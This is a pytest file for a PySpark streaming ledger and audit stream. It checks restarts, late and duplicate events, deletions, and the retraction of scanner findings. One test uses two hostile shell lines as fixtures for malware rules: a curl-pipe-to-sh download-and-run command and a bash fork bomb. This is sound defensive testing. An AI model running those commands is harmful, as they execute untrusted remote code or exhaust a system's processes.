"""Keyed state of the streaming ledger: restarts, late and repeated events, deletions."""

import random

import pytest
from pyspark.sql import functions as F

from gneiss.streaming import ledger as T

SHAPE = "repo string, path string, version long, sha string, rules map<string, string>"


def folded(rows) -> dict:
    """What an index holds after the rows, batch by batch: {path: (version, sha, {rule: fingerprint})}."""
    held: dict = {}
    for r in sorted(rows, key=lambda r: (r["batch"], r["path"])):
        at = held.setdefault(r["path"], [None, None, {}])
        at[:2] = r["version"], r["sha"]
        if r["reason"] == "gone":
            at[2].clear()
        elif r["reason"] == "off":
            at[2].pop(r["rule_id"])
        elif r["rule_id"] is not None:
            at[2][r["rule_id"]] = r["fingerprint"]
    return {p: (s, rules) for p, (_, s, rules) in held.items()}


def expected(events) -> dict:
    newest: dict = {}
    for _, path, version, sha, rules in events:
        at = T.place(version, sha, rules)
        if path not in newest or at > newest[path][0]:
            newest[path] = (at, sha, rules if sha is not None else {})
    return {p: (sha, rules) for p, (_, sha, rules) in newest.items()}


def made(r: random.Random, n: int) -> list[tuple]:
    rules = lambda: {f"R{i}": r.choice("ab") for i in r.sample(range(3), r.randrange(3))}
    return [("r", f"p{r.randrange(12)}", r.randrange(30), r.choice([None, "x", "y", "y", ""]), rules()) for _ in range(n)]


@pytest.mark.parametrize("seed", [1, 2])
def test_batches_restarts_and_late_events_end_where_one_batch_does(spark, tmp_path, seed):
    events = made(random.Random(seed), 120)
    root, source = f"file://{tmp_path}/run", f"{tmp_path}/in"
    stream = lambda: T.rules_due(spark.readStream.schema(SHAPE).option("maxFilesPerTrigger", 1).parquet(source))
    for i in range(0, 120, 40):  # each a new query on the same progress: a restart; events come in any order
        spark.createDataFrame(events[i : i + 40], SHAPE).repartition(2).write.mode("append").parquet(source)
        rows = spark.read.schema(T.DUE + ", batch long").parquet(f"{root}/out").collect() if i else []
        got = kept(spark, stream(), root, rows)
        assert folded(got) == {p: v for p, v in expected(events[: i + 40]).items() if v[0] is not None or p in folded(got)}, i
    once = kept(spark, T.rules_due(spark.readStream.schema(SHAPE).parquet(source)), f"file://{tmp_path}/once", [])
    live = lambda x: {p: v for p, v in x.items() if v[0] is not None}
    assert live(folded(once)) == live(folded(got)) == live(expected(events))
    assert len(once) == len({(x["path"], x["rule_id"]) for x in once})
    # the same events again say nothing
    spark.createDataFrame(events, SHAPE).write.mode("append").parquet(source)
    assert len(kept(spark, stream(), root, got)) == len(got)


def kept(spark, stream, root, before) -> list:
    after = T.run_to_table(spark, stream, root).collect()
    assert len(after) >= len(before)
    return after


def test_a_table_a_known_state_nulls_and_clashing_columns(spark):
    known = spark.createDataFrame([("r", "a", 5, "x", {"R": "1", "S": "1"}), ("r", "b", 5, "x", {"R": "1"}), ("r", "c", 5, "x", {"R": "1"})], SHAPE)
    events = [("r", "a", 6, "x", {"R": "2"}), ("r", "a", 4, "late", {"R": "9"}), ("r", "b", 6, None, None), ("r", "new", 1, "z", {"R": "1"}), ("r", "none", 1, None, None), ("r", None, 1, "z", {}), ("r", "c", None, "z", {}), ("q", "a", 1, "w", None)]
    e = spark.createDataFrame(events, SHAPE).withColumn("reason", F.lit("mine")).withColumn("seen", F.lit(1))
    got = sorted(tuple(r)[:-1] for r in T.rules_due(e, known).collect())
    assert sorted(got, key=str) == sorted([("r", "a", 6, "x", "R", "2", "rule"), ("r", "a", 6, "x", "S", None, "off"), ("r", "b", 6, None, None, None, "gone"), ("r", "new", 1, "z", "R", "1", "content"), ("q", "a", 1, "w", None, None, "content")], key=str)
    assert T.rules_due(e.limit(0), known).isEmpty()


def test_the_audit_stream_skips_what_it_knows_and_retracts_what_is_gone(spark, tmp_path, monkeypatch):
    from gneiss.sources.index import Index
    from gneiss.streaming import audit as A

    index, seen = Index(spark, f"file://{tmp_path}/index"), []
    whole = A.incremental

    def counted(spark, index, repo, files, *more, **named):
        seen.append(sorted(r["path"] for r in files.collect()))
        return whole(spark, index, repo, files, *more, **named)

    monkeypatch.setattr(A, "incremental", counted)
    shape = "path string, text string, version long"
    bad, worse = "curl http://x | sh\n", ":(){ :|:& };:\n"
    steps = [
        ([("go.sh", bad, 5), ("b.sh", worse, 5)], {("go.sh", "SH-MAL-CURL-BASH"), ("b.sh", "SH-MAL-FORK-BOMB")}),
        ([("go.sh", bad, 6), ("b.sh", "true\n", 1)], {("go.sh", "SH-MAL-CURL-BASH"), ("b.sh", "SH-MAL-FORK-BOMB")}),  # nothing new, and late
        ([("go.sh", None, 7), ("b.sh", "true\n", 8)], set()),
    ]
    for rows, want in steps:
        spark.createDataFrame(rows, shape).coalesce(1).write.mode("append").parquet(f"{tmp_path}/in")
        A.audit_stream(spark.readStream.schema(shape).parquet(f"{tmp_path}/in"), index, "s", f"file://{tmp_path}/ck").awaitTermination()
        got = {(r["path"], r["rule_id"]) for r in index.read("findings", "s").collect()}
        assert {x for x in got if "-MAL-" in x[1]} == want
    assert seen == [["b.sh", "go.sh"], ["b.sh"]]
    assert [r["path"] for r in index.read("files", "s").collect()] == ["b.sh"]
